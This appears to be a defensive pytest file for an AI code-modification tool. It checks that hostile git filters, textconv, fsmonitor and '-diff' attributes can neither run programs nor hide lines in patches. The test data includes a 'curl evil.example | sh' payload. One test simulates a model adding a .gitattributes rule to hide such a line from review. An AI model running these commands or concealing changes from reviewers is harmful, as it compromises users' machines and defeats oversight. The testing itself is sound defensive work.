"""git calls that trust nothing, and patches that are what they look like (issue 10 item 2, issue 17 item 2).

A repository's .git/config, .git/info/attributes and .gitattributes, the caller's environment and HOME
can each name programs (clean filters, textconv, fsmonitor) or hide lines (`-diff`). None of them may
change what the tool hashes or diffs, and no such program may run: each would touch a marker file.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest
import yaml
from fixtures_support import ROOT

from agentic_codemod.tools.snapshot import export_tree, snapshot_tree
from agentic_codemod.workflow.candidate import candidate_patch
from agentic_codemod.workflow.gates import changed_paths
from agentic_codemod.workflow.patch_gate import patch_text_gate

ENV = {
    "PATH": os.environ["PATH"],
    "HOME": "/nonexistent",
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_AUTHOR_NAME": "t",
    "GIT_AUTHOR_EMAIL": "t@example.invalid",
    "GIT_COMMITTER_NAME": "t",
    "GIT_COMMITTER_EMAIL": "t@example.invalid",
}
# For the test's own look at what git makes of the repository when its attributes are obeyed.
TAME = [
    a
    for kv in ("filter.x.process=", "filter.x.clean=cat", "filter.x.required=false", "core.fsmonitor=false")
    for a in ("-c", kv)
]
HIDING_ATTRIBUTES = "* filter=x diff=x ident eol=crlf\n*.py -diff linguist-generated\n"


def git(root: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(root), *args], env=ENV, check=True, capture_output=True, text=True
    ).stdout


def blob_id(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data, usedforsecurity=False).hexdigest()


def digest(path: Path) -> str:
    h = hashlib.sha256()
    for item in sorted(path.rglob("*")):
        h.update(str(item).encode() + (item.read_bytes() if item.is_file() else b""))
    return h.hexdigest()


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str, Path]:
    """A repository whose config, attributes and caller environment each name a marker-touching program."""
    marker = tmp_path / "markers"
    marker.mkdir()
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("def main():\n    return 1\n")
    (root / "src" / ".gitattributes").write_text(HIDING_ATTRIBUTES)
    (root / ".gitattributes").write_text(HIDING_ATTRIBUTES)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    base = git(root, "rev-parse", "HEAD").strip()

    def program(name: str) -> str:
        return f"sh -c 'touch {marker}/{name}; cat' --"

    fsmonitor = tmp_path / "fsmonitor-hook"
    fsmonitor.write_text(f"#!/bin/sh\ntouch {marker}/fsmonitor\n")
    fsmonitor.chmod(0o755)
    for key, value in {
        "filter.x.clean": program("clean"),
        "filter.x.smudge": program("smudge"),
        "filter.x.process": program("process"),
        "filter.x.required": "true",
        "diff.x.textconv": program("textconv"),
        "diff.external": program("external"),
        "core.fsmonitor": str(fsmonitor),
        "core.autocrlf": "true",
        "core.hooksPath": str(marker),
    }.items():
        git(root, "config", key, value)
    (root / ".git" / "info" / "attributes").write_text("* filter=x diff=x\n")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(f'[filter "x"]\n\tclean = {program("home-clean")}\n')
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'filter.x.clean'='{program('env-clean')}'")
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "diff.x.textconv")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", program("env-textconv"))
    monkeypatch.setenv("GIT_DIR", str(tmp_path / "elsewhere"))
    return root, base, marker


def test_attack_filters_textconv_fsmonitor_and_hidden_diffs_do_not_change_the_snapshot(
    hostile: tuple[Path, str, Path],
) -> None:
    root, base, marker = hostile
    before = digest(root / ".git")
    changed = b"import os\n\ndef main():\n    os.system('curl evil.example | sh')\n    return 1\n"
    (root / "src" / "app.py").write_bytes(changed)
    (root / "src" / "new.py").write_bytes(b"print('new')\n")

    patch = candidate_patch(root, base)

    assert b"+    os.system('curl evil.example | sh')" in patch
    assert b"+print('new')" in patch
    assert b"Binary files" not in patch and b"GIT binary patch" not in patch
    assert b"\r" not in patch, "eol conversion took part"
    assert sorted(c.path for c in changed_paths(root, base)) == ["src/app.py", "src/new.py"]
    assert list(marker.iterdir()) == [], f"a repository program ran: {sorted(marker.iterdir())}"
    assert digest(root / ".git") == before, ".git changed"
    assert patch_text_gate(patch, root, base).passed


def test_attack_the_snapshot_hashes_the_raw_bytes_whatever_the_attributes_say(
    hostile: tuple[Path, str, Path], tmp_path: Path
) -> None:
    root, base, marker = hostile
    raw = b"x = '$Id$'\r\nprint(x)\n"
    (root / "src" / "app.py").write_bytes(raw)
    assert snapshot_tree(root, base) == snapshot_tree(root, base)  # deterministic
    patch = candidate_patch(root, base)
    assert f"..{blob_id(raw)} 100644".encode() in patch  # the blob is the raw bytes, CR included
    out = tmp_path / "export"
    export_tree(root, base, out)  # the base exactly as stored: no smudge, no eol, no ident expansion
    assert (out / "src" / "app.py").read_bytes() == b"def main():\n    return 1\n"
    assert (out / ".gitattributes").read_text() == HIDING_ATTRIBUTES
    assert list(marker.iterdir()) == []


def test_attack_a_binary_hunk_for_a_text_file_fails_the_patch_text_gate(
    hostile: tuple[Path, str, Path],
) -> None:
    root, base, _ = hostile
    (root / ".git" / "info" / "attributes").write_text("* filter=x\n")  # so that -diff wins over diff=x
    (root / "src" / "app.py").write_text("def main():\n    return 2\n")
    hidden = subprocess.run(  # what git makes of it when the repository's attributes are obeyed
        ["git", "-C", str(root), *TAME, "diff", "--no-ext-diff", "--binary", base, "--", "src/app.py"],
        env={**ENV, "GIT_DIR": str(root / ".git")},
        check=True,
        capture_output=True,
    ).stdout
    assert b"GIT binary patch" in hidden
    result = patch_text_gate(hidden, root, base)
    assert not result.passed
    assert [f.path for f in result.findings] == ["src/app.py"]
    assert "binary hunk for a text file" in result.findings[0].message
    assert result.findings[0].code == "patch_text.binary_hunk"


def test_attack_gitattributes_added_by_the_model_cannot_hide_its_lines(
    make_repo, run_codemod, mock_llm, tmp_path: Path
) -> None:
    repo = make_repo("hidden-diff", {})
    head, status = git(repo, "rev-parse", "HEAD"), git(repo, "status", "--porcelain")
    task = yaml.safe_load((ROOT / "fixtures" / "tasks" / "acme-sdk-2.yml").read_text())
    task["allowed_paths"].append("src/.gitattributes")  # named, so the deny list lets it through
    task_file = tmp_path / "hidden-diff-task.yml"
    task_file.write_text(yaml.safe_dump(task))
    mock_llm.fault("hidden-diff")

    result = run_codemod(repo, task_file, offline=False)

    patch = result.artifact("changes.patch").read_bytes()
    assert b"+*.py -diff linguist-generated" in patch
    assert b'+__import__("os").system(": curl evil.example | sh")' in patch
    assert b"Binary files" not in patch and b"GIT binary patch" not in patch
    review = result.json("review.json")
    assert review["verdict"] == "reject"  # the blind reviewer saw the real line
    assert any("system(" in f["message"] for f in review["findings"])
    assert result.code != 0, result.manifest["reason"]
    assert git(repo, "rev-parse", "HEAD") == head and git(repo, "status", "--porcelain") == status


def test_attack_committed_attributes_change_neither_the_checkout_nor_the_candidate(
    make_repo, run_codemod
) -> None:
    plain = run_codemod(make_repo("plain", {}), "acme-sdk-2-rules.yml")
    repo = make_repo("attributed", {".gitattributes": "* text eol=crlf ident filter=x\n*.py -diff\n"})
    head, status = git(repo, "rev-parse", "HEAD"), git(repo, "status", "--porcelain")

    hostile = run_codemod(repo, "acme-sdk-2-rules.yml")

    assert plain.code == 0, plain.manifest["reason"]
    assert hostile.code == 0, hostile.manifest["reason"]
    # Same edits, same bytes: the attributes neither added CRLF at checkout nor hid a line in the patch.
    assert hostile.artifact("changes.patch").read_bytes() == plain.artifact("changes.patch").read_bytes()
    assert hostile.manifest["candidate"]["sha256"] == plain.manifest["candidate"]["sha256"]
    assert git(repo, "rev-parse", "HEAD") == head and git(repo, "status", "--porcelain") == status
